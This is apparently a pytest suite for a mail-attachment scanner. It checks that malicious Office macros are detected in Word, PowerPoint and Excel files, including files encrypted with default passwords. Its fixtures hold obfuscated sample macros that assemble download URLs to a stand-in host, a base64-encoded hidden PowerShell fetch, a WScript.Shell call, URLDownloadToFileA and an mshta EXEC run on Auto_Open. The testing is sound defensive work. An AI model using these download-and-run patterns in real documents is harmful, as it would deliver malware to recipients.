"""Macros in all Office formats: triggers, harmful calls and hidden URLs are found."""

import io
import random
import time
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import container_maker as boxes
import make_attachments as make
import office_maker as office
from mailguard.message.files import inspect
from mailguard.message.files.office.vba_strings import strings_of, urls_in

HIDDEN = (
    "Sub AutoOpen()\r\n"
    'a = "htt" & "ps://kak" & Chr(117) & "u.example/" & _\r\n'
    '    "a.bin"\r\n'
    'b = StrReverse("nib.b/elpmaxe.uukak//:sptth")\r\n'
    'Set o = CreateObject("WScr" + "ipt.Sh" & "ell")\r\n'
    'c = "68747470733a2f2f6b616b75752e6578616d706c652f632e62696e"\r\n'
    'd = "cG93ZXJzaGVsbCAtdyBoaWRkZW4gaHR0cHM6Ly9rYWt1dS5leGFtcGxlL2QuYmlu"\r\n'
    'e = "htt"\r\n'
    'e = e & "ps://"\r\n'
    'e = e & "kakuu.example/e.bin"\r\n'
    "End Sub\r\n"
)


def macro(attachment):
    (fact,) = attachment.facts_of("macro")
    return fact


class TestStrings:
    def test_addresses_are_put_together_as_the_macro_would(self):
        found = urls_in(strings_of(HIDDEN))
        assert sorted(found) == [f"https://kakuu.example/{letter}.bin" for letter in "abcde"]

    def test_quotes_and_names_of_vocabularies(self):
        assert strings_of('a = "say ""hi"""') == 'say "hi"'
        assert urls_in('"http://schemas.microsoft.com/x" "http://www.w3.org/2000/svg"') == ()

    @pytest.mark.parametrize("unit", ['"a""', '"', "Chr(", "Chr(1)&", 'a=a&"x"\n', '" _\n', 'StrReverse("'])
    def test_repetition_is_linear(self, unit):
        begin = time.process_time()
        strings_of(unit * (1_000_000 // len(unit)))
        assert time.process_time() - begin < 1.5

    @settings(deadline=2000)
    @given(st.text('"&+ChrW$(12)_\n =aStrReverse\ud800', max_size=300))
    def test_any_source(self, source):
        urls_in(strings_of(source))


class TestProjects:
    def test_a_module_is_found_where_the_project_says_it_stands(self):
        found = inspect("a.doc", "", office.project({"仕様": HIDDEN.replace("AutoOpen", "Document_Open")}))
        assert "Document_Open" in macro(found).detail
        assert "https://kakuu.example/a.bin" in [url for url, _ in found.urls]

    def test_the_projects_code_page_is_used(self):
        found = inspect("a.doc", "", office.project({"m": 'Sub a()\r\nShell "дом"\r\nEnd Sub'}, code_page=1251))
        assert "Shell" in macro(found).detail

    def test_comments_alone_are_no_code(self):
        assert inspect("a.doc", "", office.project({"m": "' nothing\r\nSub a()\r\nEnd Sub"})).facts == ()


class TestPresentations:
    @pytest.mark.parametrize("packed", [True, False])
    def test_a_project_inside_a_presentation(self, packed):
        found = inspect("a.ppt", "", office.presentation(office.project({"m": HIDDEN}), packed=packed))
        assert found.detected_type == "application/vnd.ms-powerpoint"
        assert "AutoOpen" in macro(found).detail

    def test_a_broken_object_in_front_hides_nothing(self):
        data = office.presentation(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 broken", office.project({"m": HIDDEN}))
        assert "AutoOpen" in macro(inspect("a.ppt", "", data)).detail

    def test_many_objects_are_bounded_and_said(self):
        data = office.presentation(*[office.project({"m": "'"})] * 60)
        assert "limit-archive-members" in {defect.kind for defect in inspect("a.ppt", "", data).defects}


class TestDefaultPasswords:
    """The test files are made with the library of the extra, which also opens files made by Office."""

    def locked(self, password, content):
        agile = pytest.importorskip("msoffcrypto.method.ecma376_agile", reason="needs the extra office")
        return bytes(agile.ECMA376Agile.encrypt(password, io.BytesIO(content)))

    def test_what_opens_by_itself_is_examined(self):
        filler = random.Random(1).randbytes(6000)  # the library writes shorter files wrongly
        content = make.word(word__vbaProject_bin=make.vba_project(make.MACRO), filler_bin=filler)
        found = inspect("a.xlsx", "", self.locked("VelvetSweatshop", content))
        assert "macro" in found.kinds
        assert "encrypted-document" not in found.kinds
        assert found.not_examined == ()

    def test_what_asks_for_a_password_is_said_to_be_locked(self):
        found = inspect("a.xlsx", "", self.locked("another", make.word()))
        assert found.kinds == ("encrypted-document",)
        assert [gap.why for gap in found.not_examined] == ["encrypted"]

    def test_the_extra_is_named(self, monkeypatch):
        data = self.locked("VelvetSweatshop", make.word())
        monkeypatch.setitem(__import__("sys").modules, "msoffcrypto", None)
        assert [gap.why for gap in inspect("a.xlsx", "", data).not_examined] == [
            "whether it opens without a password: install mailguard[office]",
            "encrypted",
        ]

    def test_endless_rounds_are_not_begun(self):
        data = self.locked("VelvetSweatshop", make.word()).replace(b'spinCount="100000"', b'spinCount="900000"')
        begin = time.process_time()
        found = inspect("a.xlsx", "", data)
        assert time.process_time() - begin < 1
        assert "limit-password-rounds" in {defect.kind for defect in found.defects}


class TestExcel4:
    def workbook(self, *tokens, kind=6, head=20):
        front = boxes.record(0x809, bytes(16))
        sheets = boxes.record(0x85, b"%b\2\1\6\0Macro1" % (len(front) + 4 + 14 + 4).to_bytes(4, "little"))
        sheet = boxes.record(0x809, bytes(16))
        for body in tokens:
            sheet += boxes.record(kind, bytes(head) + len(body).to_bytes(2, "little") + body)
        whole = front + sheets + boxes.record(10) + sheet + boxes.record(10)
        return boxes.compound({"Workbook": whole.ljust(4096, b"\0")})

    def test_strings_put_together_in_formulas(self):
        text = b"\x08".join(
            [office.text_token("URLDown"), *map(office.character_token, "lo"), office.text_token("adToFileA")]
        )
        url = office.text_token("https://kakuu") + office.text_token(".example/x.dll") + b"\x08"
        found = inspect("a.xls", "", self.workbook(text + office.call_token(0x96), url))
        assert macro(found).detail.split("; ") == [
            "Excel 4 macro sheet, hidden",
            "CALL",
            "URLDownloadToFileA",
            "https://kakuu.example/x.dll",
        ]

    def test_calls_with_a_fixed_number_of_arguments(self):
        assert "FWRITE" in macro(inspect("a.xls", "", self.workbook(office.call_token(0x8A, fixed=True)))).detail

    @pytest.mark.parametrize(("kind", "head"), [(0x221, 12), (0x4BC, 8), (0x406, 20)])
    def test_formulas_of_other_records(self, kind, head):
        data = self.workbook(office.call_token(0x6E), kind=kind, head=head)
        assert "EXEC" in macro(inspect("a.xls", "", data)).detail

    def package(self, name, content):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w") as archive:
            archive.writestr("[Content_Types].xml", "<Types/>")
            archive.writestr(name, content)
            archive.writestr(
                "xl/workbook.xml", '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
            )
        return target.getvalue()

    def test_a_macro_sheet_of_a_package(self):
        sheet = '<f>EXEC("mshta https://"&amp;CHAR(107)&amp;"akuu.example/a.hta")</f>'
        found = inspect("a.xlsm", "", self.package("xl/macrosheets/sheet1.xml", sheet))
        assert macro(found).detail.split("; ") == [
            "Excel 4 macro sheet",
            "Auto_Open",
            "EXEC",
            "mshta",
            "https://kakuu.example/a.hta",
        ]

    def test_a_binary_macro_sheet_of_a_package(self):
        sheet = b"\x08\x17\x1d\0" + "https://kakuu.example/x.dll".encode("utf-16-le") + office.call_token(0x6E)
        found = inspect("a.xlsb", "", self.package("xl/macrosheets/sheet1.bin", sheet))
        assert macro(found).detail.split("; ") == [
            "Excel 4 macro sheet",
            "Auto_Open",
            "EXEC",
            "https://kakuu.example/x.dll",
        ]


@pytest.mark.parametrize("stream", ["WordDocument", "Workbook", "PowerPoint Document"])
@pytest.mark.parametrize("charset", ["ascii", "utf-16-le"])
def test_links_of_old_documents(stream, charset):
    content = bytes(700) + 'HYPERLINK "https://kakuu.example/a?b=1" http://schemas.kakuu.example/'.encode(charset)
    found = inspect("a.doc", "", make.compound({stream: content}))
    assert [url for url, _ in found.urls] == ["https://kakuu.example/a?b=1"]
